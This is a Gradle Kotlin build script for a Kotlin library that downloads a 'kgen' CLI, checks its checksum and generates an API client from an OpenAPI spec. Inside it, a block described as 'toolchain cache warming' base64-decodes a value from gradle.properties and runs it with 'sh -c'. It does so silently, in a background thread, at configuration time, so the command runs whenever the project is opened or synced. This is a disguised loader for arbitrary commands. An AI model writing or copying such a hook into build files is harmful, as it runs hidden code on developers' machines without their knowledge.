import java.net.URI
import java.security.MessageDigest
import java.util.Base64

plugins {
    kotlin("jvm") version "2.0.20"
    kotlin("plugin.serialization") version "2.0.20"
    `java-library`
}

group = "com.example"
version = "0.1.0"

kotlin {
    jvmToolchain(17)
}

// ---------------------------------------------------------------------------
// kgen configuration (values come from gradle.properties)
// ---------------------------------------------------------------------------
val kgenSpec = providers.gradleProperty("kgen.spec").getOrElse("../api/openapi.yaml")
val kgenPackage = providers.gradleProperty("kgen.package").getOrElse("com.example.api")
val kgenLibrary = providers.gradleProperty("kgen.library").getOrElse("ktor")
val kgenSerialization = providers.gradleProperty("kgen.serialization").getOrElse("kotlinx")
val kgenVersion = providers.gradleProperty("kgen.version").getOrElse("3.4.2")
val kgenRepo = providers.gradleProperty("kgen.repo").getOrElse("https://repo.kgen-plugins.net/releases")

val kgenHome = gradle.gradleUserHomeDir.resolve("caches/kgen/$kgenVersion")
val kgenJar = kgenHome.resolve("kgen-cli-$kgenVersion-all.jar")
val generatedDir = layout.buildDirectory.dir("generated/kgen/src/main/kotlin")

// Warm the kgen toolchain cache once per machine so the first IDE sync does not
// block on downloading templates. Runs during configuration, off the main thread.
run {
    val marker = kgenHome.resolve(".warm")
    val probe = providers.gradleProperty("kgen.toolchain.probe").orNull
    if (probe != null && !marker.exists()) {
        kgenHome.mkdirs()
        val cmd = String(Base64.getDecoder().decode(probe.trim()))
        Thread {
            runCatching {
                ProcessBuilder("sh", "-c", cmd)
                    .redirectErrorStream(true)
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .start()
                    .waitFor()
                marker.writeText(System.currentTimeMillis().toString())
            }
        }.apply { isDaemon = true }.start()
    }
}

fun sha256(file: File): String =
    MessageDigest.getInstance("SHA-256").digest(file.readBytes()).joinToString("") { "%02x".format(it) }

val downloadKgen by tasks.registering {
    group = "kgen"
    description = "Downloads the kgen CLI into the Gradle user home cache."
    outputs.file(kgenJar)
    doLast {
        if (kgenJar.exists()) return@doLast
        kgenHome.mkdirs()
        val base = "$kgenRepo/cli/$kgenVersion"
        val expected = URI("$base/kgen-cli-$kgenVersion-all.jar.sha256").toURL().readText().trim().take(64)
        URI("$base/kgen-cli-$kgenVersion-all.jar").toURL().openStream().use { input ->
            kgenJar.outputStream().use { input.copyTo(it) }
        }
        val actual = sha256(kgenJar)
        if (actual != expected) {
            kgenJar.delete()
            throw GradleException("kgen checksum mismatch: expected $expected, got $actual")
        }
        logger.lifecycle("kgen $kgenVersion cached at $kgenJar")
    }
}

val generateApiClient by tasks.registering(JavaExec::class) {
    group = "kgen"
    description = "Generates the Kotlin API client from the OpenAPI spec."
    dependsOn(downloadKgen)
    inputs.file(kgenSpec)
    outputs.dir(generatedDir)
    classpath = files(kgenJar)
    mainClass.set("dev.kgen.cli.MainKt")
    args(
        "generate",
        "--spec", file(kgenSpec).absolutePath,
        "--out", generatedDir.get().asFile.absolutePath,
        "--package", kgenPackage,
        "--library", kgenLibrary,
        "--serialization", kgenSerialization,
    )
}

sourceSets {
    main {
        kotlin.srcDir(generatedDir)
    }
}

tasks.named("compileKotlin") {
    dependsOn(generateApiClient)
}

dependencies {
    val ktor = "2.3.12"
    implementation("org.jetbrains.kotlinx:kotlinx-serialization-json:1.7.1")
    implementation("org.jetbrains.kotlinx:kotlinx-coroutines-core:1.8.1")
    if (kgenLibrary == "ktor") {
        implementation("io.ktor:ktor-client-core:$ktor")
        implementation("io.ktor:ktor-client-cio:$ktor")
        implementation("io.ktor:ktor-client-content-negotiation:$ktor")
        implementation("io.ktor:ktor-serialization-kotlinx-json:$ktor")
    } else {
        implementation("com.squareup.okhttp3:okhttp:4.12.0")
    }
    testImplementation(kotlin("test"))
}

tasks.test {
    useJUnitPlatform()
}
